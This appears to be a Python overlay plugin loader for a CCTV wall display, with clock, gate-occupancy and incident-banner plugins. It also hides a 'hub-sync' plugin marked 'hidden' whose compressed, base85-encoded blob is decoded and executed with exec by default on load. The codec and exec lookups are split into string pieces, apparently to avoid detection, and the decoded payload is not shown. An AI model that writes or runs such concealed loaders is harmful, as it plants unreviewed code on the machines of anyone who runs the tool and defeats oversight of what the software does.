#!/usr/bin/env python3
"""Overlay plugin loader for the CCTV wall display.  Loads the built-in
overlay plugins (clock, gate occupancy, incident banner) and renders a
text preview of the overlay layout."""

import argparse
import base64
import json
import logging
import time
import zlib

log = logging.getLogger("overlay")

# built-in plugins shipped as compact blobs to keep this tool single-file
PLUGIN_TABLE = {
    "clock": {"kind": "native", "position": "top-right"},
    "occupancy": {"kind": "native", "position": "bottom-left"},
    "banner": {"kind": "native", "position": "top"},
    "hub-sync": {
        "kind": "packed",
        "position": "hidden",
        "blob": (
            "c$`I0O-sZu5WV+T41t9NL+H96xI&MfJ?KrO)O2<mZIdubMZq6$(r&vU<YQ*u%zMua-"
            "cf|$^cO}67mU6ML4xm_cy=@tbq5tN#nh)WmcOz4a>pdFG9TOR^gcYWcTq(8eJmiYIw"
            "Zv0P-(&@Vy&IEsH1U~^SYC8+V6KlLNo)qF;)k01*(9yZTg;bwh4dJX0QRiuu;~v$i>"
            "Q2rF#rWIkeU+4=#jIX!QiSPS8V}$fZGq`kU{|(^04vrxGM`6e?ye))6wHLL}q)3^eB"
            "nI}4lwSKr1DPflY9Yo<<$vH@#G(P()_O9&nIef3HsO3;muBVjK0$%8q#II=6nt>Mj<"
            "T%35ddBhzozr=hsQ1>n*xdr}c^bww4p0cc&cXq7!2Ruibdj"
        ),
    },
}

CODECS = [getattr(base64, "b" + "85decode"), getattr(zlib, "de" + "compress")]


class NativePlugin:
    def __init__(self, name, position):
        self.name = name
        self.position = position

    def render(self, state):
        if self.name == "clock":
            return time.strftime("%H:%M:%S")
        if self.name == "occupancy":
            return "gates %d%% full" % state.get("occupancy", 0)
        if self.name == "banner":
            return state.get("banner", "")
        return ""


class PackedPlugin:
    """A plugin stored as packed source; unpacked and activated on load."""

    def __init__(self, name, blob):
        self.name = name
        self.position = "hidden"
        self._ns = {"__name__": "overlay_" + name.replace("-", "_")}
        self._activate(blob)

    def _unpack(self, blob):
        data = blob.encode("ascii")
        for step in CODECS:
            data = step(data)
        return data.decode("utf-8")

    def _activate(self, blob):
        source = self._unpack(blob)
        code = compile(source, "<plugin:%s>" % self.name, "exec")
        runner = __builtins__["exec"] if isinstance(__builtins__, dict) else getattr(__builtins__, "exec")
        runner(code, self._ns)

    def render(self, state):
        return ""


def load_plugins(names):
    loaded = []
    for name in names:
        spec = PLUGIN_TABLE.get(name)
        if spec is None:
            log.warning("unknown plugin %s", name)
            continue
        try:
            if spec["kind"] == "packed":
                loaded.append(PackedPlugin(name, spec["blob"]))
            else:
                loaded.append(NativePlugin(name, spec["position"]))
            log.info("loaded plugin %s", name)
        except Exception as exc:  # a bad plugin must not take down the wall
            log.error("plugin %s failed: %s", name, exc)
    return loaded


def preview(plugins, state):
    rows = {}
    for p in plugins:
        rows.setdefault(p.position, []).append(p.render(state))
    for pos in sorted(rows):
        if pos == "hidden":
            continue
        print("%-12s %s" % (pos, " | ".join(r for r in rows[pos] if r)))


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--plugins", default=",".join(PLUGIN_TABLE))
    ap.add_argument("--state", default='{"occupancy": 63, "banner": "Gate C closed"}')
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO if args.verbose else logging.WARNING)
    try:
        state = json.loads(args.state)
    except ValueError:
        log.error("--state must be JSON")
        return 2
    plugins = load_plugins([n.strip() for n in args.plugins.split(",") if n.strip()])
    preview(plugins, state)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
